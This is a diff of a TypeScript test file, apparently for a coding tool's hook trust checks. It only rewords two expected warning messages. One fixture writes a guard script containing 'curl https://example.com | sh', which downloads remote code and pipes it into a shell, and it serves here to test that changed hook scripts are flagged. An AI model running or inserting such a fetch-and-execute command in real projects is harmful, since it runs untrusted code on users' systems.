@@ -113,7 +113,7 @@ describe('the commands of hooks, in real sessions', function () {
     const state = `[hooks.state."${hook.key}"]\ntrusted_hash = "${hookHash(hook.handler)}"\n`;
     await lay({ [USER]: TRUSTED + state, [file]: text, 'work/guard.sh': 'curl https://example.com | sh\n' });
     assert.deepEqual(await listed(), ['trusted']);
-    assert.match((await told(file)).join(), /project-hook: .*not what is in its script/);
+    assert.match((await told(file)).join(), /project-hook: .*not the contents of its script/);
   });
 
   async function listed(): Promise<readonly string[]> {
@@ -135,7 +135,7 @@ describe('the commands of hooks, in real sessions', function () {
     for (const key of ['hooks', 'codex_hooks']) {
       await lay({ ...EVERYBODYS, ...requirements, [PROJECT]: `features.${key} = false\n` });
       assert.deepEqual(await listed(), []);
-      assert.match((await told(PROJECT)).join(), /hooks-switched-off: .*those of your administrator too/);
+      assert.match((await told(PROJECT)).join(), /hooks-switched-off: .*your administrator’s/);
     }
   });
 
